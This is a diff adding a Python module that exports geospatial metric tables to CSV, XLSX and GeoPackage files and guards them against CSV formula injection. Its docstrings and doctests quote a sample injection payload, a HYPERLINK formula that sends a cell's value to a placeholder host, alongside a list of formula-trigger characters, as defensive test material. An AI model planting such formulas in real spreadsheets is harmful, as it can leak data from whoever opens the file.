@@ -1,0 +1,270 @@
+r"""Metric tables -> CSV, XLSX and GeoPackage files, labelled, deterministic and safe to open.
+
+:func:`write_tables` writes the tables of a :class:`~cdv_geo.pipeline.Metrics` with French (or
+English) column labels and units. The same input gives byte-identical CSV files (floats rounded to
+6 decimals, ``\n`` line ends).
+
+Spreadsheets hold data, never code. A name such as ``=HYPERLINK("http://x"&A1,"Cliquez")`` typed
+in a layer's attribute table must not run as a formula when a planner opens the file in Excel or
+LibreOffice (CSV injection, OWASP). So:
+
+- in the **XLSX** workbook every text cell is written as a string cell (``data_type "s"``), never
+  a formula, whatever it starts with; numbers stay numbers;
+- in **CSV** files, a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
+  prefixed with a single quote ``'`` (what OWASP recommends: the spreadsheet then shows it as
+  text); numeric columns are left as they are, so a negative number stays a number.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+from collections.abc import Iterable, Mapping, Sequence
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+
+from cdv_geo.core.errors import CdvGeoError
+from cdv_geo.core.labels import check_lang, column_label, fmt_number, kind_label, label
+from cdv_geo.io import atomic_path, write_layer
+from cdv_geo.pipeline import TABLES, Metrics
+
+__all__ = [
+    "FORMULA_TRIGGERS",
+    "labelled_table",
+    "neutralise_text",
+    "safe_for_csv",
+    "table_title",
+    "write_tables",
+]
+
+#: The first characters that make a spreadsheet read a CSV cell as a formula (OWASP).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_text(value: Any) -> Any:
+    """Return `value` with a leading ``'`` if it is a text a spreadsheet would run as a formula.
+
+    Only texts are changed: numbers (negative ones too) are returned as they are.
+
+    Examples
+    --------
+    >>> print(neutralise_text('=HYPERLINK("http://x"&A1,"Cliquez")'))
+    '=HYPERLINK("http://x"&A1,"Cliquez")
+    >>> neutralise_text("-cmd"), neutralise_text("Presles"), neutralise_text(-3.5)
+    ("'-cmd", 'Presles', -3.5)
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def _neutralise_index(index: pd.Index) -> pd.Index:
+    if isinstance(index, pd.MultiIndex):
+        levels: list[Any] = [_neutralise_index(lev) for lev in index.levels]
+        return index.set_levels(levels, verify_integrity=False)
+    if index.dtype == object or isinstance(index.dtype, pd.StringDtype):
+        return index.map(neutralise_text)
+    return index
+
+
+def safe_for_csv(table: pd.DataFrame) -> pd.DataFrame:
+    """Return a copy of `table` whose texts (cells, index, headers) cannot run as formulas.
+
+    Examples
+    --------
+    >>> import pandas as pd
+    >>> t = pd.DataFrame({"name": ["+1", "Presles"], "gap": [-0.25, 0.5]})
+    >>> safe_for_csv(t).to_dict("list")
+    {'name': ["'+1", 'Presles'], 'gap': [-0.25, 0.5]}
+    """
+    out = table.copy()
+    for col in out.columns:
+        values = out[col]
+        if isinstance(values.dtype, pd.CategoricalDtype):
+            values = values.astype(object)
+        if values.dtype == object or isinstance(values.dtype, pd.StringDtype):
+            out[col] = values.map(neutralise_text)
+    out.columns = _neutralise_index(out.columns)
+    out.index = _neutralise_index(out.index)
+    return out
+
+
+def _deterministic(df: pd.DataFrame) -> pd.DataFrame:
+    out = df.copy()
+    for col in out.columns:
+        if pd.api.types.is_float_dtype(out[col]):
+            out[col] = out[col].round(6)
+    return out
+
+
+def _column_label(column: str, attrs: Mapping[str, Any], lang: str) -> str:
+    """Return the label of a column (the key figures' coverage names its service and time)."""
+    if column == "coverage_share" and attrs.get("service") and attrs.get("threshold_min"):
+        text = label(
+            "kf_coverage",
+            lang,
+            threshold=fmt_number(attrs["threshold_min"], lang),
+            service=kind_label(str(attrs["service"]), lang),
+        )
+        return f"{text} (0–1)"
+    return column_label(column, lang=lang)
+
+
+def labelled_table(table: pd.DataFrame, *, lang: str = "fr") -> pd.DataFrame:
+    """Return `table` with labelled columns and index levels, floats rounded to 6 decimals.
+
+    Examples
+    --------
+    >>> import pandas as pd
+    >>> t = pd.DataFrame({"name": ["Presles"], "n_trees": [12]},
+    ...                  index=pd.Index(["QP002013"], name="quartier"))
+    >>> labelled_table(t, lang="en")
+                          Name  Trees planted (count)
+    Quartier (code)
+    QP002013           Presles                     12
+    """
+    check_lang(lang)
+    out = _deterministic(table)
+    attrs = {str(k): v for k, v in table.attrs.items()}
+    out.columns = [_column_label(str(c), attrs, lang) for c in out.columns]
+    if not isinstance(out.index, pd.RangeIndex) or out.index.name is not None:
+        out.index.names = [column_label(str(n or "id"), lang=lang) for n in out.index.names]
+    return out
+
+
+def table_title(name: str, *, lang: str = "fr") -> str:
+    """Return the title of table `name` (:data:`cdv_geo.pipeline.TABLES`), else the name.
+
+    Examples
+    --------
+    >>> table_title("trees"), table_title("trees", lang="en")
+    ("Plantations d'arbres", 'Tree plantings')
+    """
+    fr, en, _ = TABLES.get(name, (name, name, ""))
+    return fr if check_lang(lang) == "fr" else en
+
+
+def write_tables(
+    metrics: Metrics,
+    out_dir: str | os.PathLike[str],
+    *,
+    formats: Sequence[str] = ("csv",),
+    lang: str = "fr",
+) -> list[Path]:
+    r"""Write every metric table: one CSV per table, one XLSX sheet per table, a GeoPackage.
+
+    CSV files are UTF-8 with ``\n`` line ends and floats rounded to 6 decimals, so the same
+    input gives byte-identical files. The GeoPackage ``derived_layers.gpkg`` holds the derived
+    layers (service areas, residences with walking times, quartiers with their key figures) and
+    opens in QGIS. Every file is written atomically, and no text of the data is written as a
+    formula (see the module docstring).
+
+    Parameters
+    ----------
+    metrics : Metrics
+        From :func:`~cdv_geo.pipeline.compute_metrics`.
+    out_dir : path-like
+        Output folder (created).
+    formats : sequence of {"csv", "xlsx", "gpkg"}
+        What to write.
+    lang : {"fr", "en"}
+        Language of the column labels.
+
+    Returns
+    -------
+    list of pathlib.Path
+
+    Raises
+    ------
+    CdvGeoError
+        On an unknown format or language.
+
+    Examples
+    --------
+    >>> import tempfile
+    >>> import pandas as pd
+    >>> from cdv_geo.pipeline import Metrics
+    >>> t = pd.DataFrame({"name": ["=1+1", "ensemble"], "n_trees": [3, 5]},
+    ...                  index=pd.Index(["QP1", "all"], name="quartier"))
+    >>> out = write_tables(Metrics(trees=t), tempfile.mkdtemp())
+    >>> print(out[0].read_text(encoding="utf-8"), end="")
+    Quartier (code),Nom,Arbres plantés (nombre)
+    QP1,'=1+1,3
+    all,ensemble,5
+    """
+    unknown = set(formats) - {"csv", "xlsx", "gpkg"}
+    if unknown:
+        raise CdvGeoError(f"unknown table format(s) {sorted(unknown)}; use csv, xlsx or gpkg")
+    check_lang(lang)
+    out = Path(out_dir)
+    out.mkdir(parents=True, exist_ok=True)
+    written: list[Path] = []
+    tables = dict(sorted(metrics.tables.items()))
+    if "csv" in formats:
+        for name, table in tables.items():
+            path = out / f"{name}.csv"
+            with atomic_path(path) as tmp:
+                safe_for_csv(labelled_table(table, lang=lang)).to_csv(
+                    tmp,
+                    lineterminator="\n",
+                    encoding="utf-8",
+                    index=not isinstance(table.index, pd.RangeIndex),
+                )
+            written.append(path)
+    if "xlsx" in formats and tables:
+        path = out / "tables.xlsx"
+        _write_xlsx(tables, path, lang)
+        written.append(path)
+    if "gpkg" in formats and metrics.layers:
+        path = out / "derived_layers.gpkg"
+        with atomic_path(path) as tmp:
+            for name, layer in sorted(metrics.layers.items()):
+                write_layer(_deterministic(layer), tmp, layer=name)
+        written.append(path)
+    return written
+
+
+def _write_xlsx(tables: Mapping[str, pd.DataFrame], path: Path, lang: str) -> None:
+    """Write one sheet per table; every text cell is a string cell, never a formula."""
+    used: set[str] = set()
+    with atomic_path(path) as tmp, pd.ExcelWriter(tmp, engine="openpyxl") as xl:
+        for name, table in tables.items():
+            sheet = _sheet_name(table_title(name, lang=lang), used)
+            _xlsx_text(labelled_table(table, lang=lang)).to_excel(xl, sheet_name=sheet)
+            _text_cells(xl.sheets[sheet].iter_rows())
+
+
+def _xlsx_text(table: pd.DataFrame) -> pd.DataFrame:
+    """Drop the control characters XLSX cannot hold (openpyxl refuses them) from the texts."""
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    def clean(value: Any) -> Any:
+        return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
+
+    out = table.copy()
+    for col in out.columns:
+        if out[col].dtype == object or isinstance(out[col].dtype, pd.StringDtype):
+            out[col] = out[col].map(clean)
+    out.index = out.index.map(clean) if out.index.nlevels == 1 else out.index
+    return out
+
+
+def _sheet_name(title: str, used: set[str]) -> str:
+    r"""Return an Excel sheet name (31 characters at most, no ``[]:*?/\\``), unique."""
+    base = re.sub(r"[\[\]:*?/\\]", " ", title)[:31].strip() or "table"
+    name, i = base, 2
+    while name.lower() in used:
+        name = f"{base[: 31 - len(str(i)) - 1]} {i}"
+        i += 1
+    used.add(name.lower())
+    return name
+
+
+def _text_cells(rows: Iterable[Sequence[Any]]) -> None:
+    """Make every cell openpyxl took for a formula (a text starting with ``=``) a string cell."""
+    for row in rows:
+        for cell in row:
+            if cell.data_type == "f":
+                cell.data_type = "s"
